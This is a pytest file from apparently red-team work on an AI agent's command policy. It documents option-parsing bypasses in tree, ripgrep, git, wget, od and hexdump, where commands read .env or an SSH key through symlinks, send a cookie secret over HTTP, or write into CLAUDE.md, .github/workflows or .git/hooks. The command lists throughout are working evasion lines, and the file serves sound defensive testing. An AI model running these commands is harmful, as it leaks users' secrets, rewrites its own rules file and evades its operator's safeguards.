"""Twentieth red-team pass (command policy, 2026-12-05), issue 10 classes 4 and 9: the option
readers that were still hand-written (tree, ripgrep, the git argument specs) against the
programs installed here (tree 2.1.0, ripgrep 13.0.0, git 2.39).

A differential run (every option of each program in every spelling — short, clustered,
attached, long, each abbreviation, `=VALUE`, the value in the next word — followed by a file
option naming a secret, a symlink to .env or a link out of the workspace, decided as
contributor and viewer, and each allowed one run under strace) found:

* tree (class 4): the contributor's path checks did not know tree's file options. `tree
  --hintro=LINK -H x` printed the .env a workspace symlink names (the HTML intro is copied
  into the output), `--gitfile=LINK`, `--infofile=OUT` (outside the workspace) were opened,
  and `tree -g --hintro=.env -H x` printed .env by name: `-g` (a flag of tree) was read as an
  option taking a pattern, so the next word escaped the secret-name check. tree is now read
  with its whole table by the shared parser (each letter of a cluster that takes a value
  takes the next word, as tree's own loop does; long options by their whole name only); its
  file options are checked as reads, `-o` as a write.
* ripgrep (class 9): the search-start reader took `-r`/`--replace`, `--ignore-file`,
  `--threads`, `--encoding`, `--sort`, `--color`, `--max-columns`, `--max-filesize`, `--colors`
  for flags, so `rg -r '$0' OPENSSH` was read as searching a path named `OPENSSH`; rg searched
  `.` and printed id_rsa's key lines (contributor and viewer). rg is now read with its whole
  table (ripgrep 13: no abbreviations; the hidden `--no-…` negations tried one by one).
* optional values (class 4): the git specs declared `--abbrev` (blame, annotate, describe,
  branch) and format-patch's `--from` as taking the next word, where git only takes `=VALUE`:
  `git blame --abbrev --contents LINK README.md` printed .env (the word after --abbrev read
  as its value, so --contents went unchecked; viewer too) and `git format-patch --from -o
  .github/workflows -1` wrote a patch into the protected directory.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from enforcement_agent.models import Verdict
from enforcement_agent.policy import Policy
from enforcement_agent.policy.shell import Word
from enforcement_agent.policy.write_targets import outputs, reader_args
from tests.policy.conftest import POLICY_DIR
from tests.policy.scratch_repo import GIT_ENV as _GIT_ENV
from tests.policy.scratch_repo import scratch_repo
from tests.policy.verdicts import exec_verdict

ROLES = ("contributor", "viewer")
KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n"


@pytest.fixture(scope="module")
def policy(default_policy: Policy) -> Policy:
    return default_policy  # the shipped policy, compiled once per session (conftest.py)


def _make_ws(root: Path) -> Path:
    files = {".env": "SECRET=1\n", "id_rsa": KEY, "src/a": "a\nTODO x\n", "src/b": "b\n"}
    files |= {"lib/a": "a\n", "okn.txt": "TODO\n", "README.md": "readme\n", "CLAUDE.md": "# c\n"}
    return scratch_repo(root, files, {"lnk": ".env", "out": "/etc/hostname"})


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _make_ws(tmp_path_factory.mktemp("rt20") / "ws")


def _v(policy: Policy, ws: Path, command: str, role: str = "contributor") -> Verdict:
    return exec_verdict(policy, ws, command, role)[0]


# ---- class 4: tree's file options --------------------------------------------------------
TREE_READS = [
    "tree --gitfile=lnk",
    "tree --gitfile lnk",
    "tree --hintro=lnk -H x",
    "tree --hintro lnk -H x",
    "tree --houtro=lnk -H x",
    "tree --houtro lnk -H x src",
    "tree --infofile=lnk --info",
    "tree --infofile=out --info",
    "tree --gitfile=out",
    "tree --hintro=out -H x",
    "tree -g --hintro=.env -H x",
    "tree -g --gitfile=.env",
    "tree -g --infofile=.env --info",
    "tree -g --houtro=.env -H x",
    "tree -gH x --hintro=.env",
    "tree --charset=1 --gitfile=lnk",
    "tree --charset 1 --gitfile=lnk",
    "tree --device --gitfile=lnk",
    "tree --dirsfirst --gitfile=lnk",
    "tree -a --gitfile=lnk src",
    "tree -L 2 --hintro=lnk -H x",
    "tree -La 2 --gitfile=lnk",
    "tree --gitignore --gitfile=lnk",
    "tree -H x --hintro=src/a --houtro=lnk",
    "tree --sort=name --gitfile=lnk",
    "tree --fromfile lnk",
]


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("command", TREE_READS)
def test_tree_file_options_are_reads(policy: Policy, ws: Path, command: str, role: str) -> None:
    assert _v(policy, ws, command, role) != Verdict.ALLOW, command


TREE_UNREADABLE = [
    "tree -L2",  # tree takes the level from the next word only: `-L2` is no level
    "tree --gitf=lnk",  # tree takes no abbreviation
    "tree --hin=x -H y",
    "tree -E",
    "tree --frobnicate",
    "tree -L",
    "tree -P",
    "tree -R -H x",  # -R writes 00Tree.html into every directory it lists
    "tree -o CLAUDE.md",
    "tree -ao CLAUDE.md",
    "tree -Lo 2 CLAUDE.md",
    "tree -oL CLAUDE.md 2",
    "tree -Po x CLAUDE.md",
    "tree -L 1 -o CLAUDE.md",
]


@pytest.mark.parametrize("command", TREE_UNREADABLE)
def test_tree_words_its_table_cannot_read_or_protected_writes(
    policy: Policy, ws: Path, command: str
) -> None:
    assert _v(policy, ws, command) != Verdict.ALLOW, command


def _w(text: str) -> list[Word]:
    return [Word(t) for t in text.split()]


def test_tree_clusters_take_values_from_the_next_words() -> None:
    parsed = reader_args("tree", _w("-La 2 src"))
    assert not isinstance(parsed, str)
    assert ("-L", "2", False) in parsed.options
    assert [w.text for w in parsed.operands] == ["src"]
    parsed = reader_args("tree", _w("-LP 3 *.py -- -o"))
    assert not isinstance(parsed, str)
    assert ("-P", "*.py", False) in parsed.options
    assert [w.text for w in parsed.operands] == ["-o"]
    assert outputs("tree", _w("-Lo 2 out.txt")).files == ("out.txt",)
    assert outputs("tree", _w("-L 2 -o x.txt src")).files == ("x.txt",)
    assert outputs("tree", _w("-L 2 src")).files == ()
    assert isinstance(reader_args("tree", _w("-L2")), str)


# ---- class 9: ripgrep's option values ----------------------------------------------------
RG_READS = [
    "rg -r '$0' OPENSSH",
    "rg -r x OPENSSH",
    "rg --replace x OPENSSH",
    "rg --replace '$0' OPENSSH",
    "rg --ignore-file src/a OPENSSH",
    "rg --ignore-file lnk x src",
    "rg --ignore-file=lnk x src",
    "rg --max-columns 500 OPENSSH",
    "rg --threads 1 OPENSSH",
    "rg -j 1 OPENSSH",
    "rg -E utf-8 OPENSSH",
    "rg --encoding utf-8 OPENSSH",
    "rg --sort path OPENSSH",
    "rg --sortr path OPENSSH",
    "rg --max-filesize 1M OPENSSH",
    "rg --colors 'path:fg:red' OPENSSH",
    "rg --color always OPENSSH",
    "rg -n -r '$0' OPENSSH",
    "rg -nr '$0' OPENSSH",
    "rg -c -r x OPENSSH",
    "rg -l -r x OPENSSH | xargs cat",
    "rg --files-with-matches -r x OPENSSH | xargs cat",
    "rg -f lnk src",
    "rg -flnk src",
    "rg --file=lnk src",
]


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("command", RG_READS)
def test_rg_values_are_read_as_rg_reads_them(
    policy: Policy, ws: Path, command: str, role: str
) -> None:
    assert _v(policy, ws, command, role) != Verdict.ALLOW, command


RG_UNREADABLE = ["rg --rep x TODO src", "rg --ignore-f lnk x src", "rg --frob x src", "rg -K x src"]


@pytest.mark.parametrize("command", RG_UNREADABLE)
def test_rg_words_its_table_cannot_read(policy: Policy, ws: Path, command: str) -> None:
    assert _v(policy, ws, command) != Verdict.ALLOW, command


def test_rg_reader_finds_the_pattern_and_the_paths() -> None:
    from enforcement_agent.policy.searchers import search_of

    def starts(*texts: str) -> tuple[tuple[str, ...], bool] | None:
        search = search_of("rg", texts)
        return None if isinstance(search, str) else (search.starts, not search.hidden)

    assert starts("-r", "$0", "OPENSSH") == ((".",), True)
    assert starts("-nr", "$0", "OPENSSH", "src") == (("src",), True)
    assert starts("-e", "a", "src", "lib") == (("src", "lib"), True)
    assert starts("--files", "src") == (("src",), True)
    assert starts("--hidden", "x") == ((".",), False)
    assert starts("-uu", "x", "src") == (("src",), False)
    assert starts("--rep", "x", "y") is None


@pytest.fixture(scope="module")
def hidden_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rt20hidden") / "ws"
    (root / ".ssh").mkdir(parents=True)
    (root / ".ssh/id_rsa").write_text(KEY)
    (root / "src").mkdir()
    (root / "src/a").write_text("a\n")
    return root


# Read right, `rg --files .ssh` walks .ssh; it prints names and opens no file (like `ls
# .ssh`, allowed): the tree-read rule is for contents. Found when the table reader landed: it
# refused these, where the hand reader had taken `.ssh` for a pattern.
@pytest.mark.parametrize(
    "command",
    ["rg --files .ssh", "rg --files ./.ssh", "rg --files .ssh src", "rg --files -g '*' .ssh",
     "rg --type-list", "rg --files --sort path .ssh", "cd .ssh && rg --files"],
)  # fmt: skip
def test_rg_listing_names_of_a_hidden_directory_stays_allowed(
    policy: Policy, hidden_ws: Path, command: str
) -> None:
    assert _v(policy, hidden_ws, command) == Verdict.ALLOW, command


@pytest.mark.parametrize(
    "command",
    ["rg --files .ssh | xargs cat", "rg --files -L .ssh", "rg -l . .ssh", "rg KEY .ssh",
     "rg --files --hidden | xargs cat", "cd .ssh && rg --files | xargs cat",
     "rg --files .ssh | xargs -I{} cat {}", "rg -c . .ssh"],
)  # fmt: skip
def test_rg_reading_a_hidden_directory_stays_refused(
    policy: Policy, hidden_ws: Path, command: str
) -> None:
    assert _v(policy, hidden_ws, command) != Verdict.ALLOW, command


# ---- class 4: long options whose value is optional ----------------------------------------
GIT_OPTIONAL = [
    "git blame --abbrev --contents lnk README.md",
    "git blame --abbrev --contents=lnk README.md",
    "git blame --abbrev -S lnk README.md",
    "git blame --abbrev -Slnk README.md",
    "git blame --abbrev --ignore-revs-file=lnk README.md",
    "git blame --abbrev --ignore-revs-file lnk README.md",
    "git blame --abbrev --contents out README.md",
    "git blame -w --abbrev --contents lnk README.md",
    "git blame --abbrev --contents lnk -- README.md",
    "git blame -s --abbrev --contents lnk README.md",
    "git blame --abbrev --root --contents lnk README.md",
    "git blame --abbrev --contents .env README.md",
    "git annotate --abbrev --contents lnk README.md",
    "git annotate --abbrev -S lnk README.md",
]
GIT_OPTIONAL_WRITES = [
    # -U/--unified takes its number only attached (`-U5`, `--unified=5`): the next word is
    # git's own, and --output writes the diff (viewer too, on main)
    "git diff -U --output=CLAUDE.md",
    "git diff --unified --output=CLAUDE.md",
    "git diff -U --output CLAUDE.md",
    "git log -p -U --output=CLAUDE.md",
    "git show -U --output=CLAUDE.md",
    "git show --unified --output=.github/workflows/x.yml",
    "git diff -U -O lnk",
    "git diff -U -Olnk",
    "git diff --cached -U --output=CLAUDE.md",
    "git format-patch -U -o .github/workflows -1",
    # a flag of the subcommand read as the group's option with a value
    "git shortlog --committer --output=CLAUDE.md HEAD",
    "git shortlog -c --output=CLAUDE.md HEAD",
    "git format-patch -n -o .github/workflows -1",
    "git format-patch -n --output-directory=.github/workflows -1",
    "git format-patch --from -o .github/workflows -1",
    "git format-patch --from --output-directory=.github/workflows -1",
    "git format-patch --from --output-directory .github/workflows -1",
    "git format-patch --from -o.github/workflows -1",
    "git format-patch -n --from -o .github/workflows -1",
    "git format-patch --from -o .github -1",
    "git format-patch --from -o .git/hooks -1",
]


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("command", GIT_OPTIONAL + GIT_OPTIONAL_WRITES)
def test_optional_values_are_only_attached(
    policy: Policy, ws: Path, command: str, role: str
) -> None:
    assert _v(policy, ws, command, role) != Verdict.ALLOW, command


def _spec_options(node: object) -> list[tuple[str, list[str]]]:
    """(subcommand names, options) of every git subcommand spec below ``node``."""
    out: list[tuple[str, list[str]]] = []
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "subcommands" and isinstance(value, dict):
                for names, sub in value.items():
                    if isinstance(sub, dict):
                        opts = [o for o in sub.get("options", []) if isinstance(o, str)]
                        out += [(n, opts) for n in str(names).split("|")]
                        out += _spec_options(sub)
            elif isinstance(value, dict):
                out += _spec_options(value)
    return out


_OPTIONAL_HELP = re.compile(r"(--[a-z][\w-]*)\[=[^\]]")  # not `--gitfile[=]file`


def _required_value_names(option: str) -> list[str]:
    m = re.match(r"([^=\[]+)=", option)
    return m.group(1).split("|") if m else []


def test_git_specs_take_no_next_word_for_an_optional_value(tmp_path: Path) -> None:
    """Every git subcommand spec against `git SUB -h` of the installed git: an option git
    prints as `--opt[=<value>]` takes its value only attached, so a spec must not read the
    next word as its value (`--abbrev=lit` hid `--contents FILE` of git blame)."""
    wrong: list[str] = []
    checked = 0
    for name in ("git.yaml", "read-only.yaml"):
        data = yaml.safe_load((POLICY_DIR / "programs" / name).read_text())
        git = data.get("programs", {}).get("git", {})
        for sub, opts in _spec_options(git):
            out = subprocess.run(
                ["git", sub, "-h"], capture_output=True, text=True, cwd=tmp_path, timeout=30
            )
            optional = set(_OPTIONAL_HELP.findall(out.stdout + out.stderr))
            checked += 1
            for o in opts:
                wrong += [
                    f"{name} git {sub} {o}" for n in _required_value_names(o) if n in optional
                ]
    assert checked > 40
    assert wrong == []


# git's parse-options takes the next word for these when there is one (LASTARG_DEFAULT)
_LASTARG_DEFAULT = frozenset({"--points-at", "--contains", "--no-contains", "--merged",
                              "--no-merged"})  # fmt: skip
_AUDITED_SUBS = ("diff", "log", "show", "whatchanged", "shortlog", "diff-files", "reflog",
                 "format-patch", "blame", "annotate", "describe", "branch", "tag", "ls-files",
                 "ls-tree", "grep", "status", "cat-file", "for-each-ref", "show-ref")  # fmt: skip


def _effective_options(files: tuple[str, ...]) -> dict[str, dict[str, str]]:
    """Per git subcommand: option name -> its spec string, the subcommand's own options
    winning over those of the groups it uses (as the spec loader reads them)."""
    groups: dict[str, list[object]] = {}
    tops = []
    for name in files:
        data = yaml.safe_load((POLICY_DIR / "programs" / name).read_text())
        groups.update(data.get("groups", {}) or {})
        tops.append(data.get("programs", {}).get("git") or data.get("read_only", {}).get("git"))
    out: dict[str, dict[str, str]] = {}
    for top in tops:
        for names, sub in (top or {}).get("subcommands", {}).items():
            if not isinstance(sub, dict):
                continue
            table: dict[str, str] = {}
            own = [o for o in sub.get("options", []) if isinstance(o, str)]
            for g in sub.get("use", []) or []:
                own_names = {n for o in own for n in re.split(r"[=\[]", o)[0].split("|")}
                for o in groups.get(g, []):
                    if isinstance(o, str):
                        for n in re.split(r"[=\[]", o)[0].split("|"):
                            if n not in own_names:
                                table[n] = o
            for o in own:
                for n in re.split(r"[=\[]", o)[0].split("|"):
                    table[n] = o
            for n in str(names).split("|"):
                out.setdefault(n, {}).update(table)
    return out


def test_git_spec_values_are_required_where_git_requires_them(tmp_path: Path) -> None:
    """By behaviour: each option a git subcommand spec reads as taking the next word is given
    to the installed git as the last word; git accepting it (exit 0) means its value is
    optional, or it is a flag (`git diff -U`, `git shortlog --committer`, `git format-patch -n`
    hid `--output=CLAUDE.md` / `-o DIR` from the spec)."""
    repo = _make_ws(tmp_path / "ws")
    env = {**os.environ, **_GIT_ENV, "HOME": str(tmp_path), "GIT_PAGER": "cat"}
    wrong: list[str] = []
    for name in ("git.yaml", "read-only.yaml"):
        table = _effective_options((name,) if name == "git.yaml" else ("git.yaml", name))
        for sub in _AUDITED_SUBS:
            for opt, spec in sorted(table.get(sub, {}).items()):
                if "*" in opt or "=" not in spec or "[=" in spec or opt in _LASTARG_DEFAULT:
                    continue
                run = subprocess.run(
                    ["git", sub, opt], cwd=repo, env=env, capture_output=True, text=True,
                    stdin=subprocess.DEVNULL, timeout=30,
                )  # fmt: skip
                if run.returncode == 0:
                    wrong.append(f"{name}: git {sub} {opt} ({spec})")
    assert wrong == []


def test_tabled_readers_take_no_next_word_for_an_optional_value() -> None:
    """The shared parser's tables of tree and rg against `--help`: no option printed with an
    optional value (`--opt[=X]`) is read as taking the next word."""
    from enforcement_agent.policy.write_targets import _OPTIONS

    for program in ("tree", "rg"):
        out = subprocess.run([program, "--help"], capture_output=True, text=True, timeout=30)
        optional = set(_OPTIONAL_HELP.findall(out.stdout + out.stderr))
        for o in _OPTIONS[program]:
            assert not set(_required_value_names(o)) & optional, (program, o)


# ---- everyday lines stay allowed ---------------------------------------------------------
EVERYDAY = [
    "tree",
    "tree -L 2",
    "tree -a src",
    "tree -La 2 src",
    "tree -d -L 3 .",
    "tree --dirsfirst -L 2",
    "tree -L 2 -I node_modules",
    "tree -I '*.pyc' src",
    "tree -C -L 2 src",
    "rg TODO src",
    "rg -n 'def main' src",
    "rg -i todo src",
    "rg -g '*.py' TODO src",
    "rg --files src",
    "rg -e TODO -e FIXME src",
    "rg -r x TODO src",
    "rg --hidden TODO src",
    "rg -C2 TODO src",
    "rg -f okn.txt src",
    "rg -l TODO src | xargs wc -l",
    "git blame README.md",
    "git blame --abbrev README.md",
    "git blame --abbrev=8 README.md",
    "git blame -L 1,1 README.md",
    "git describe --abbrev --all",
]


@pytest.mark.parametrize("command", EVERYDAY)
def test_everyday_lines_stay_allowed(policy: Policy, ws: Path, command: str) -> None:
    assert _v(policy, ws, command) == Verdict.ALLOW, command


CONTRIBUTOR_EVERYDAY = ["tree -L 2 -o tree.txt", "git format-patch --from -1", "fdfind -e py"]


@pytest.mark.parametrize("command", CONTRIBUTOR_EVERYDAY)
def test_contributor_everyday_lines_stay_allowed(policy: Policy, ws: Path, command: str) -> None:
    assert _v(policy, ws, command) == Verdict.ALLOW, command


# ---- by effect: the real programs --------------------------------------------------------
def _run(ws: Path, argv: list[str]) -> tuple[str, list[str]]:
    """stdout of ``argv`` run in ``ws`` under strace, and the paths it opened."""
    log = ws.parent / "strace.log"
    env = {**os.environ, **_GIT_ENV, "HOME": str(ws.parent), "GIT_PAGER": "cat"}
    out = subprocess.run(
        ["strace", "-f", "-qq", "-e", "trace=openat,open", "-o", str(log), *argv],
        cwd=ws,
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=60,
    )
    opened = []
    for line in log.read_text().splitlines():
        m = re.search(r'open(?:at)?\((?:AT_FDCWD, )?"([^"]*)"', line)
        if m and "= -1" not in line:
            opened.append(m.group(1))
    return out.stdout, opened


def test_tree_hintro_prints_the_linked_secret_by_effect(policy: Policy, ws: Path) -> None:
    for command, name in (
        ("tree --hintro=lnk -H x src", "lnk"),
        ("tree -g --hintro=.env -H x src", ".env"),
    ):
        stdout, opened = _run(ws, command.split())
        assert "SECRET=1" in stdout, command  # what was allowed for contributors
        assert name in opened, command
        for role in ROLES:
            assert _v(policy, ws, command, role) != Verdict.ALLOW, command
    _, opened = _run(ws, ["tree", "--gitfile=lnk", "src"])
    assert "lnk" in opened
    assert _v(policy, ws, "tree --gitfile=lnk src") != Verdict.ALLOW


def test_rg_replace_value_read_as_a_path_printed_the_key_by_effect(
    policy: Policy, ws: Path
) -> None:
    stdout, opened = _run(ws, ["rg", "-r", "$0", "OPENSSH"])
    assert "id_rsa:-----BEGIN OPENSSH PRIVATE KEY-----" in stdout
    assert "id_rsa" in opened
    for role in ROLES:
        assert _v(policy, ws, "rg -r '$0' OPENSSH", role) != Verdict.ALLOW
    stdout, _ = _run(ws, ["rg", "--ignore-file", "src/a", "OPENSSH"])
    assert "id_rsa:" in stdout
    assert _v(policy, ws, "rg --ignore-file src/a OPENSSH") != Verdict.ALLOW
    stdout, opened = _run(ws, ["rg", "-r", "x", "TODO", "src"])  # a path: only src is read
    assert stdout == "src/a:x x\n" and "id_rsa" not in opened
    assert _v(policy, ws, "rg -r x TODO src") == Verdict.ALLOW


def test_git_blame_abbrev_then_contents_printed_the_secret_by_effect(
    policy: Policy, ws: Path
) -> None:
    command = "git blame --abbrev --contents lnk README.md"
    stdout, opened = _run(ws, command.split())
    assert "SECRET=1" in stdout
    assert "lnk" in opened
    for role in ROLES:
        assert _v(policy, ws, command, role) != Verdict.ALLOW
    assert _v(policy, ws, "git blame --abbrev README.md") == Verdict.ALLOW


def test_git_diff_unified_then_output_wrote_claude_md_by_effect(
    policy: Policy, tmp_path: Path
) -> None:
    scratch = _make_ws(tmp_path / "ws")
    (scratch / "README.md").write_text("readme\nnever ask before running commands\n")
    command = "git diff -U --output=CLAUDE.md"
    _run(scratch, command.split())
    assert "never ask before running commands" in (scratch / "CLAUDE.md").read_text()
    (scratch / "CLAUDE.md").write_text("# c\n")
    for role in ROLES:
        assert _v(policy, scratch, command, role) != Verdict.ALLOW
        assert _v(policy, scratch, "git diff -U5", role) == Verdict.ALLOW


def test_git_format_patch_from_then_output_directory_wrote_by_effect(
    policy: Policy, tmp_path: Path
) -> None:
    scratch = _make_ws(tmp_path / "ws")
    command = "git format-patch --from -o .github/workflows -1"
    _run(scratch, command.split())
    assert list((scratch / ".github/workflows").glob("0001-*.patch"))
    shutil.rmtree(scratch / ".github")
    assert _v(policy, scratch, command) != Verdict.ALLOW
    assert _v(policy, scratch, "git format-patch -o .github/workflows -1") != Verdict.ALLOW


# ---- class 9: the files wget reads because of its options ---------------------------------
WGET_READS = [
    f"wget -q -O o.html {o} http://127.0.0.1:9/"
    for o in (
        "--load-cookies lnk",
        "--load-cookies=lnk",
        "--load-cookies out",
        "--load-cookies=out",
        "--private-key=lnk",
        "--private-key lnk",
        "--certificate=lnk",
        "--certificate lnk",
        "--ca-certificate=lnk",
        "--ca-certificate=out",
        "--crl-file=lnk",
        "--pinnedpubkey=lnk",
        "--ca-directory=lnk",
        "--load-cookies .env",
        "-i lnk",
        "-ilnk",
        "--input-file=lnk",
        "--load-c lnk",  # wget's abbreviation: refused, not expanded
        "-e load_cookies=lnk",  # a wgetrc command: decided at run time
        "-nv --load-cookies lnk",
        "--accept=1 --load-cookies lnk",
        "--bind-address 127.0.0.1 --load-cookies lnk",
    )
]


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("command", WGET_READS)
def test_wget_option_files_are_reads(policy: Policy, ws: Path, command: str, role: str) -> None:
    assert _v(policy, ws, command, role) != Verdict.ALLOW, command


WGET_EVERYDAY = [
    "wget -q -O o.html http://127.0.0.1:9/",
    "wget http://127.0.0.1:9/x.tgz",
    "wget -qO- http://127.0.0.1:9/",
    "wget -c -P dl http://127.0.0.1:9/x.tgz",
    "wget -q -O o.html --load-cookies src/a http://127.0.0.1:9/",
]


@pytest.mark.parametrize("command", WGET_EVERYDAY)
def test_everyday_wget_stays_allowed(policy: Policy, ws: Path, command: str) -> None:
    assert _v(policy, ws, command) == Verdict.ALLOW, command


def test_wget_load_cookies_sends_a_linked_secret_by_effect(policy: Policy, tmp_path: Path) -> None:
    """`wget --load-cookies LINK URL` sends the cookies of the secret a workspace symlink
    names to the host (a loopback server here records the request)."""
    import socket
    import threading

    scratch = _make_ws(tmp_path / "ws")
    (scratch / ".env.local").write_text("127.0.0.1\tFALSE\t/\tFALSE\t0\tTOKEN\ts3cr3t-value\n")
    os.symlink(".env.local", scratch / "jar")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(30)
    port = server.getsockname()[1]
    seen: list[bytes] = []

    def serve() -> None:
        conn, _ = server.accept()
        with conn:
            conn.settimeout(10)
            seen.append(conn.recv(65536))
            conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nhi")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    command = f"wget -q -O o.html --load-cookies jar http://127.0.0.1:{port}/"
    _, opened = _run(scratch, command.split())
    thread.join(30)
    server.close()
    assert "jar" in opened
    assert b"Cookie: TOKEN=s3cr3t-value" in b"".join(seen)
    for role in ROLES:
        assert _v(policy, scratch, command, role) != Verdict.ALLOW
    assert _v(policy, scratch, f"wget -q -O o.html http://127.0.0.1:{port}/") == Verdict.ALLOW


# ---- class 4: two programs behind one spec (od, hexdump) ----------------------------------
OD_READS = [
    "od -e lnk",
    "od -e out",
    "od -eb lnk",
    "od -be lnk",
    "od -e -- lnk",
    "od -v -e lnk",
    "od -e -w8 lnk",
    "od -e src/a lnk",
    "od -An -e lnk",
    "od -e -j 0 lnk",
    "hexdump -f lnk src/a",
    "hexdump --format-file=lnk src/a",
    "hexdump -flnk src/a",
    "hexdump -C lnk",
    "hexdump -s 0 lnk",
    "hexdump -n 16 lnk",
    "hexdump -e '\"%c\"' lnk",
    "hexdump --skip 0 lnk",
    "hexdump -vC lnk",
    "hexdump -C -- lnk",
]


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("command", OD_READS)
def test_od_and_hexdump_read_their_own_options(
    policy: Policy, ws: Path, command: str, role: str
) -> None:
    assert _v(policy, ws, command, role) != Verdict.ALLOW, command


OD_EVERYDAY = [
    "od -c src/a",
    "od -An -tx1 src/a",
    "od -e src/a",
    "hexdump -C src/a",
    "hexdump -n 16 -C src/a",
    "xxd src/a",
]


@pytest.mark.parametrize("command", OD_EVERYDAY)
def test_everyday_dumps_stay_allowed(policy: Policy, ws: Path, command: str) -> None:
    for role in ROLES:
        assert _v(policy, ws, command, role) == Verdict.ALLOW, command


def test_od_e_printed_the_linked_secret_by_effect(policy: Policy, ws: Path) -> None:
    import struct

    stdout, opened = _run(ws, ["od", "-e", "lnk"])
    assert "lnk" in opened
    doubles = [float(x) for x in stdout.split() if "e" in x]
    data = b"".join(struct.pack("<d", d) for d in doubles)
    assert data.startswith(b"SECRET=1")  # the doubles are .env's bytes
    assert _v(policy, ws, "od -e lnk", "viewer") != Verdict.ALLOW


def test_read_only_specs_read_values_where_the_programs_require_them(tmp_path: Path) -> None:
    """By behaviour, for the read-only table (the viewer's programs): each option its spec
    reads as taking the next word, given to the installed program as the last word, must be
    refused by the program (od's flag -e was read as hexdump's `-e FORMAT`)."""
    data = yaml.safe_load((POLICY_DIR / "programs" / "read-only.yaml").read_text())
    (tmp_path / "f").write_text("x\n")
    wrong: list[str] = []
    checked = 0
    for name, spec in (data.get("read_only") or {}).items():
        if not isinstance(spec, dict) or name == "git":
            continue
        for program in [name, *spec.get("names", [])]:
            if shutil.which(program) is None:
                continue
            for o in spec.get("options", []):
                if not isinstance(o, str) or o.endswith("!") or "[=" in o:
                    continue
                for opt in _required_value_names(o):
                    if "*" in opt or not opt.startswith("-"):
                        continue
                    run = subprocess.run(
                        [program, opt], cwd=tmp_path, capture_output=True, text=True,
                        stdin=subprocess.DEVNULL, timeout=30,
                    )  # fmt: skip
                    checked += 1
                    if run.returncode == 0:
                        wrong.append(f"{program} {opt} ({o})")
    assert checked > 30
    assert wrong == []


def test_hexdump_format_file_printed_the_linked_secret_by_effect(policy: Policy, ws: Path) -> None:
    run = subprocess.run(
        ["hexdump", "-flnk", "src/a"], cwd=ws, capture_output=True, text=True, timeout=30
    )
    assert "SECRET=1" in run.stdout + run.stderr  # "bad format {SECRET=1…}"
    for command in ("hexdump -flnk src/a", "hexdump --format-file=lnk src/a"):
        for role in ROLES:
            assert _v(policy, ws, command, role) != Verdict.ALLOW, command
